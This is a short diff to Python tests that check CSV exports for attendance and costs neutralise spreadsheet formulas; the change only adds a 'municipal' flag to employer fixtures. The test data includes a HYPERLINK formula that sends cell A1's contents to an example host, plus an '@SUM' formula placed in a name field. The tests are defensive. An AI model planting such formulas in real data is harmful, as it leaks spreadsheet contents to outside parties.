@@ -24,7 +24,7 @@ FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Klicka")'
 def test_attendance_csv_neutralises_a_formula_in_the_name_and_note(client):
     case = CaseFactory(participant__first_name=FORMULA)
     catalogue_install(case.organisation)
-    employer = EmployerFactory(organisation=case.organisation, name="@SUM(1+1)")
+    employer = EmployerFactory(organisation=case.organisation, name="@SUM(1+1)", municipal=True)
     monday = timezone.localdate() - timedelta(days=timezone.localdate().weekday() + 7)
     placement = services.placement_create(
         actor=case.coach,
@@ -59,7 +59,7 @@ def test_cost_exports_neutralise_a_formula_in_a_unit_name_and_keep_numbers(clien
         case=case,
         kind=PlacementKind.EMPLOYMENT,
         subsidy_type=SubsidyType.OSA,
-        employer=EmployerFactory(organisation=case.organisation),
+        employer=EmployerFactory(organisation=case.organisation, municipal=True),
         starts_on=date(2025, 4, 16),
         ends_on=date(2025, 5, 31),
         hours_per_week="30",
